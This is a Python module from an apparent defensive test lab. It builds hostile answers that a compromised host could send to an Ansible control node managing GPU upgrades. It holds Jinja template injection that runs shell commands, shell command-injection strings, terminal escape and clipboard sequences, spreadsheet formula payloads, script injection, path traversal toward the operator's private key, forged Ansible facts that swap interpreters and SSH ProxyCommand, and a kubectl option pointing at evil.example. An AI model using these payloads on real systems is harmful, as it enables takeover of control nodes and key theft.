"""The answers of a hostile host, by kind: an honest answer in, the attack on it out (lab/hostile/interpreter.py)."""

import base64
import copy
import json
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import Any, NamedTuple

Attack = dict[str, Any]
DEEP = 100_000
BEYOND_64_BITS = 10**30
ROLLOUT = {"phase": "done", "time": 1, "to": "595.91.07", "touched": True, "reason": ""}


class Targets(NamedTuple):
    """What an attacker aims at: files of the control node and other hosts. ``ran`` is a file that no program may make."""

    key: Path
    tasks: Path
    kubeconfig: Path
    program: Path
    ran: Path
    victim: str
    mark: str
    """A word that names this attack in all that comes of it."""


Change = Callable[[Any, Targets], Any]
Text = Callable[[str, Targets], str]


def change_strings(value: Any, change: Callable[[str], Any], keys: bool = False) -> Any:
    """Return JSON with every string changed; ``keys``: also those of mappings."""
    if isinstance(value, str):
        return change(value)
    if isinstance(value, list):
        return [change_strings(one, change, keys) for one in value]
    if isinstance(value, dict):
        return {change(key) if keys else key: change_strings(one, change, keys) for key, one in value.items()}
    return value


def change_leaves(value: Any, change: Callable[[Any], Any]) -> Any:
    """Return JSON with everything changed that is neither list nor mapping."""
    if isinstance(value, list):
        return [change_leaves(one, change) for one in value]
    if isinstance(value, dict):
        return {key: change_leaves(one, change) for key, one in value.items()}
    return change(value)


def printed(text: str | bytes) -> Attack:
    """Return an attack that prints these bytes."""
    content = text.encode("utf-8", "surrogatepass") if isinstance(text, str) else text
    return {"do": "print", "value": base64.b64encode(content).decode()}


def answered(value: Any) -> Attack:
    """Return an attack that prints JSON."""
    return printed(json.dumps(value))


def merged(value: Mapping[str, Any]) -> Attack:
    """Return an attack that sets keys of the honest answer."""
    return {"do": "merge", "value": dict(value)}


def failed_with(bad: str) -> Attack:
    """Return a failure whose message, output and exception are a text."""
    texts = ("msg", "module_stderr", "module_stdout", "exception", "stderr", "stdout")
    more = {"failed": True, "rc": 3, "cmd": [bad], "warnings": [bad], "diff": {"before": bad, "after": bad}}
    return answered({**dict.fromkeys(texts, bad), **more})


def warned_with(bad: str) -> Attack:
    """Return a good answer with warnings and deprecations of a text."""
    notes = [{"msg": bad, "version": bad, "date": bad, "collection_name": bad}, bad]
    return merged({"warnings": [bad, f"{{{{ {bad} }}}}"], "deprecations": notes})


def keys_with(honest: Any, text: str) -> Attack:
    """Return an attack that puts a text after every text, and adds a key of it."""
    return answered({**change_strings(honest, lambda one: one + text), f"key{text}": text})


def escaped(at: Targets) -> str:
    """Return what changes the title, the clipboard and the colours of a terminal, with C0 and C1."""
    return f"\x1b]0;{at.mark}\x07\x1b[2J\x1b]52;c;{at.mark}\x07\x9b31m{at.mark}\x9d0;{at.mark}\x9c"


def not_a_number(value: Any) -> float:
    """Return NaN in place of a text, else infinity."""
    return float("nan") if isinstance(value, str) else float("inf")


def tagged_templates(honest: Any, at: Targets) -> Attack:
    """Jinja that says it is trusted, in the forms of Ansible's own serialization."""
    text = only_jinja(at)
    trusted = {"__ansible_type": "_AnsibleTaggedStr", "value": text, "tags": [{"__ansible_type": "TrustedAsTemplate"}]}
    value = change_strings(honest, lambda _: trusted)
    more = {"a": {"__ansible_unsafe": text}, "b": {"__ansible_vault": text}, "c": f"!unsafe {text}", "d": trusted}
    return answered({**value, **more, "msg": trusted, "_ansible_parsed": True})


def only_jinja(at: Targets) -> str:
    """Return Jinja that makes a file where it is rendered."""
    return "{{ lookup('ansible.builtin.pipe', 'touch FILE') }}".replace("FILE", str(at.ran))


def jinja(at: Targets) -> str:
    """Return Jinja that makes a file where it is rendered, in several ways."""
    statement = "{% set x = lookup('ansible.builtin.pipe', 'touch FILE') %}"
    other = "{{ cycler.__init__.__globals__.os.system('touch FILE') }}"
    return only_jinja(at) + (statement + other).replace("FILE", str(at.ran))


def other_formulas(honest: Any, at: Targets) -> Attack:
    """The other first characters of formulas, also behind a comma, a quote and an end of line."""
    texts = iter([f"{first}SUM({at.mark})" for first in "@+-\t\r\n"] * 10_000)
    quoted = f'",\n=HYPERLINK("{at.mark}")'
    return answered(change_strings(honest, lambda text: next(texts) + quoted))


def facts(honest: Any, at: Targets) -> Attack:
    """Facts that would choose programs, connections and results of Ansible."""
    wrong = {
        "ansible_python_interpreter": str(at.program),
        "discovered_interpreter_python": str(at.program),
        "ansible_connection": "local",
        "ansible_host": at.victim,
        "ansible_ssh_common_args": f"-o ProxyCommand={at.program}",
        "ansible_ssh_executable": str(at.program),
        "ansible_become_exe": str(at.program),
        "ansible_shell_executable": str(at.program),
        "ansible_delegated_vars": {},
        "gpu_upgrade_drain": [str(at.tasks)],
        "gpu_upgrade_plan": {"upgrade": {"state": "current", "opened": False}},
        "gpu_upgrade_prepared": {"result": {}},
        "gpu_upgrade_fleet": {"record": str(at.key), "due": [at.victim], "results": {}},
        "gpu_drain_turn": {"result": {"host": at.victim, "state": "upgraded"}},
        "gpu_upgrade_max_failures": 10**6,
        "gpu_drain_slurm_controller": at.victim,
        "gpu_drain_kubernetes_host": at.victim,
        "gpu_drain_kubernetes_kubeconfig": str(at.kubeconfig),
        "gpu_kubernetes_kubectl": str(at.program),
        "gpu_kubernetes_kubeconfig": str(at.kubeconfig),
        "gpu_kubernetes_context": "production",
        "gpu_kubernetes_node": at.victim,
        "nvidia_driver_runfile": str(at.key),
        "gpu_verify_image": str(at.key),
        "role_path": str(at.tasks.parent),
    }
    return merged({"ansible_facts": wrong, "ansible_facts_cacheable": True, "_ansible_facts_cacheable": True, **wrong})


def results_of_ansible(honest: Any, at: Targets) -> Attack:
    """Keys by which actions give Ansible orders."""
    return merged(
        {
            "add_host": {"host_name": f"{at.mark}-host", "groups": ["gpu_upgrade_roll"], "host_vars": {"x": 1}},
            "add_group": "gpu_upgrade_roll",
            "parent_groups": ["all"],
            "include": str(at.tasks),
            "include_args": {"_raw_params": str(at.tasks)},
            "_ansible_notify": ["reboot"],
            "_ansible_delegated_vars": {"ansible_host": at.victim, "ansible_delegated_host": at.victim},
            "_ansible_no_log": False,
            "_ansible_verbose_override": True,
            "_ansible_ignore_errors": True,
            "_ansible_item_result": True,
            "_ansible_loop_var": "item",
            "ansible_stats": {"data": {at.victim: {"x": 1}}, "per_host": True, "aggregate": True},
            "results": [{"failed": True, "msg": at.mark}, 7, None],
            "invocation": {"module_args": {"x": "y" * 1000}},
        }
    )


def wrong_results_of_ansible(honest: Any, at: Targets) -> Attack:
    """The same keys with other types than Ansible's."""
    names = ("warnings", "deprecations", "exception", "diff", "results", "invocation", "ansible_facts", "skipped", "rc")
    return merged({**dict.fromkeys(names, 7), "attempts": "x", "finished": {}, "start": 1, "ansible_job_id": "../../x"})


def of_facts(honest: Any, **changes: Any) -> Attack:
    """Return an attack that replaces parts of the facts; of those that are mappings, only the given keys."""
    found = copy.deepcopy(honest)
    for name, change in changes.items():
        part = found["facts"][name]
        found["facts"][name] = {**part, **change} if isinstance(part, dict) and isinstance(change, dict) else change
    return answered(found)


def steal_by_facts(honest: Any, at: Targets) -> Attack:
    """The operator's private key wherever facts name a file, a version or a package that a plan could copy."""
    key = str(at.key)
    climbing = "../" * 24 + key.lstrip("/")
    recorded = {"version": climbing, "branch": climbing, "flavour": key, "source": "runfile", "kernel_modules": key}
    return of_facts(
        honest,
        driver={
            "runfile": key,
            "origin": "runfile",
            "on_disk": {"version": climbing, "path": key},
            "packages": {key: key},
            "missing_parts": [key],
        },
        cuda={"toolkits": [{"version": "12.9", "path": key, "release": climbing, "origin": "runfile"}]},
        cudnn={"12.9": {"version": "9.1.0", "recorded": key, "origin": key}},
        monitoring={"files": {key: key}, "exporter": key, "python": key},
        upgrade={"phase": "done", "from": {**recorded, "packages": [key]}, "to": climbing, "rollout": 1700000000},
    )


def stolen_plan(at: Targets) -> dict[str, Any]:
    """Return a plan that installs the operator's private key."""
    runfile = {"version": "580.95.05", "source": str(at.key), "sha256": "", "sha256_url": "", "flavour": "open"}
    return {
        "plan": {
            "gpu_host": True,
            "converged": False,
            "summary": str(at.key),
            "choice": {},
            "refusals": [],
            "warnings": [],
            "steps": [],
            "digest": "",
        },
        "todo": {
            "nvidia_driver.runfile": {**runfile, "kernels": [], "uninstall": None},
            "cudnn.install": {"file": str(at.key), "installs": []},
        },
        "verification": {"expect": {}, "digest": "x", "image": str(at.key)},
        "row": {},
        "lines": [str(at.tasks)],
        "refusal": "",
        "upgrade": {"state": "current", "installer": {"source": str(at.key), "version": "580.95.05"}},
    }


def no_system(honest: Any, at: Targets) -> Attack:
    """Facts without the system, and with a field that no release has."""
    facts = {name: value for name, value in honest["facts"].items() if name != "base"}
    return merged({"facts": {**facts, at.mark: at.mark}})


def endless_versions(honest: Any, at: Targets) -> Attack:
    """Versions of a hundred thousand digits, and numbers that are none, which a planner could convert."""
    digits = "9" * 100_000
    return of_facts(
        honest,
        driver={
            "on_disk": {"version": f"{digits}.{digits}"},
            "loaded": {"version": f"x.{digits}"},
            "origin": "cuda_repo",
        },
        packages={"installed": {**honest["facts"]["packages"]["installed"], "docker-ce": digits}},
        docker={"version": f"{digits}.x", "installed": True},
    )


def many_parts(honest: Any, at: Targets) -> Attack:
    """Thousands of GPUs, processes, containers and toolkits, to keep the planner busy."""
    (gpu, *_) = honest["facts"]["base"]["gpus"]
    base = {**honest["facts"]["base"], "gpus": [{**gpu, "address": f"{n:04x}:00:00.0"} for n in range(8_000)]}
    processes = [{"pid": n, "name": f"{at.mark}{n}"} for n in range(8_000)]
    containers = [{"engine": "docker", "id": str(n), "name": str(n), "gpu": "runtime"} for n in range(8_000)]
    toolkits = [{"version": f"12.{n}", "path": f"/x/{n}", "release": None, "origin": "repo"} for n in range(8_000)]
    return of_facts(
        honest,
        base=base,
        work={"processes": processes, "containers": containers},
        cuda={"toolkits": toolkits},
        cudnn={f"12.{n}": {"version": "9.1.0"} for n in range(8_000)},
    )


def drained_elsewhere(honest: Any, at: Targets) -> Attack:
    """A drain journal that names the attacker's task file, other hosts and kubectl's options."""
    names = {
        "tasks": {"files": [str(at.tasks)]},
        "kubernetes": {
            "node": "--server=https://evil.example",
            "host": "localhost",
            "kubeconfig": str(at.kubeconfig),
            "context": "",
            "reason": "gpu-ready: driver upgrade",
        },
        "slurm": {"node": at.victim, "controller": at.victim, "reason": "gpu-ready: driver upgrade"},
    }
    return merged({"journal": names})


def foreign_labels(honest: Any, at: Targets) -> Attack:
    """Labels that no GPU has, names that Kubernetes does not accept, and values that end the node in YAML."""
    node = f'"\n  - {{apiVersion: v1, kind: Node, metadata: {{name: {at.victim}, labels: {{{at.mark}: x}}}}}}'
    names = (f"{at.mark}/x", "node-role.kubernetes.io/x", "nvidia.com/gpu." + "a" * 300, f"nvidia.com/gpu.{node}")
    many = {"nvidia.com/gpu." + chr(97 + n % 26) * (n // 26 + 1): f"-{at.mark}" for n in range(500)}
    return merged({"labels": {**dict.fromkeys(names, at.mark), **many, "nvidia.com/gpu.product": node}})


def by_text(change: Text) -> Change:
    """Return the attack that changes every text."""
    return lambda honest, at: answered(change_strings(honest, lambda text: change(text, at)))


TEXTS: dict[str, Text] = {
    # Unicode that reorders or hides text
    "direction": lambda text, at: f"{text}\u202e{at.mark}\u2066\u200b\ufeff\U000e0041",
    "only_templates": lambda _, at: only_jinja(at),
    "formulas": lambda text, at: f"=cmd|'/C {at.mark}'!A0{text}",
    "markup": lambda text, at: f"{text}</td></script><script>{at.mark}</script><img src=x onerror={at.mark}>",
    "absolute_paths": lambda _, at: str(at.key),
    "climbing_paths": lambda _, at: "../" * 24 + str(at.key).lstrip("/"),
    "task_files": lambda _, at: str(at.tasks),
    "options": lambda _, at: f"--kubeconfig={at.kubeconfig}",
    "commands": lambda text, at: f"{text}'\"; touch {at.ran}; $(touch {at.ran}) `touch {at.ran}` #",
    "other_hosts": lambda _, at: at.victim,
    "control_node": lambda _, at: "localhost",
}
"""What stands in the place of every text: programs, paths of the operator, names of other machines."""
FORMS: dict[str, Change] = {
    # C0, C1 and OSC 52: the title, the clipboard and the screen of whoever reads it
    "escapes": lambda honest, at: keys_with(honest, escaped(at) + "\x85\x7f\x00\r\b" + at.mark),
    "failed_with_escapes": lambda _, at: failed_with(f"{escaped(at)}\r{at.mark}"),
    "warns_with_escapes": lambda _, at: warned_with(escaped(at)),
    "templates": lambda honest, at: keys_with(honest, jinja(at)),
    "tagged_templates": tagged_templates,
    "other_formulas": other_formulas,
    "nothing": lambda _, at: printed(""),
    "no_json": lambda _, at: printed(f"{at.mark}: not JSON\n"),
    "no_text": lambda _, at: printed(b'{"changed": false, "msg": "\xff\xfe\xed\xa0\x80", "plan": "\xc3\x28"}'),
    # single surrogates, which JSON can spell and UTF-8 cannot
    "half_characters": lambda honest, _: answered(change_strings(honest, lambda text: text + "\ud800")),
    "no_mapping": lambda honest, _: answered([honest]),
    "no_keys": lambda *_: answered({}),
    "nulls": lambda honest, _: answered(dict.fromkeys(honest)),
    "lists": lambda honest, at: answered(change_leaves(honest, lambda value: [value, {"a": at.mark}])),
    "texts": lambda honest, at: answered(dict.fromkeys(honest, at.mark)),
    "numbers": lambda honest, _: answered(change_leaves(honest, lambda _: BEYOND_64_BITS)),
    "no_numbers": lambda honest, _: answered(change_leaves(honest, not_a_number)),
    # deeper than any stack, and less deep than the limit of Python's own reader
    "deep": lambda *_: printed('{"changed": false, "plan": ' + "[" * DEEP + "]" * DEEP + "}"),
    "deep_enough": lambda honest, _: answered({**honest, "warnings": [], "deep": json.loads("[" * 400 + "]" * 400)}),
    "flood": lambda *_: {"do": "flood", "value": 200 * 1024 * 1024},
    "silence": lambda *_: {"do": "sleep"},
    "facts": facts,
    "results_of_ansible": results_of_ansible,
    "wrong_results_of_ansible": wrong_results_of_ansible,
    "unreachable": lambda _, at: merged({"unreachable": True, "msg": at.mark}),
    "skipped": lambda _, at: answered({"skipped": True, "changed": False, "skip_reason": at.mark}),
}
"""Answers of another form, and with keys that Ansible knows."""
GENERAL = {**FORMS, **{name: by_text(change) for name, change in TEXTS.items()}}
"""For every module."""
FOR_ANSIBLE = (
    "failed_with_escapes", "warns_with_escapes", "tagged_templates", "nothing", "no_json", "no_text",
    "half_characters", "no_mapping", "nulls", "deep", "flood", "silence", "facts", "results_of_ansible",
    "wrong_results_of_ansible", "unreachable", "skipped",
)  # fmt: skip
"""For modules whose answer no task uses: only Ansible itself and the output read it."""
UNUSED = (
    "gpu_packages", "gpu_repository", "gpu_files", "gpu_cuda_toolkit_default", "gpu_cudnn_archive", "gpu_daemon_json",
    "gpu_service_failure", "gpu_service", "file", "copy", "systemd_service", "gpu_monitoring", "gpu_driver_volume",
    "gpu_cdi_spec", "gpu_containerd_config", "gpu_revert", "gpu_dkms", "gpu_nvidia_detect", "gpu_cuda_toolkit_absent",
)  # fmt: skip
CHECKED: dict[str, Change] = {
    # files that are missing on the host: the operator's private key
    "steal_by_check": lambda _, at: merged(
        {
            "files": {str(at.key): "/tmp/x"},
            "needs_file": True,
            "needs": ["12.9", str(at.key)],
            "installers": [str(at.key)],
        }
    )
}
DRAINING: dict[str, Change] = {
    "waits_for_ever": lambda _, at: merged({"done": False, "waiting": at.mark, "deadline": 9e15, "remaining_s": 10**9})
}
OWN: dict[str, dict[str, Change]] = {
    "gpu_node_plan": {
        "steal_by_facts": steal_by_facts,
        "a_plan": lambda _, at: answered({"changed": False, "lease": "", **stolen_plan(at)}),
        "a_plan_beside_facts": lambda _, at: merged(stolen_plan(at)),
        "nothing_to_do": lambda *_: merged({"facts": 7}),
        "no_system": no_system,
        "endless_versions": endless_versions,
        "many_parts": many_parts,
        "future_rollout": lambda honest, _: of_facts(honest, upgrade={**ROLLOUT, "rollout": 10**15}),
        "wrong_rollout": lambda honest, _: of_facts(
            honest, upgrade={"phase": [], "rollout": "abc", "time": {}, "to": []}
        ),
    },
    "gpu_driver_runfile": CHECKED,
    "gpu_cuda_runfile": CHECKED,
    "gpu_upgrade_stage": CHECKED,
    "gpu_drain_journal": {"drained_elsewhere": drained_elsewhere},
    "gpu_kubernetes_labels": {"foreign_labels": foreign_labels},
    "gpu_drain_docker": DRAINING,
    "gpu_drain_slurm": DRAINING,
}
"""For one module."""
RAW = ("escapes", "no_text", "nothing", "commands", "flood", "silence", "templates")
"""For the output of a shell, which is no JSON."""
ATTACKS = {**GENERAL, **{name: attack for own in OWN.values() for name, attack in own.items()}}


def of_module(module: str) -> tuple[str, ...]:
    """Return the names of the attacks on a module."""
    general = RAW if module == "raw" else FOR_ANSIBLE if module in UNUSED else GENERAL
    return (*general, *OWN.get(module, ()))
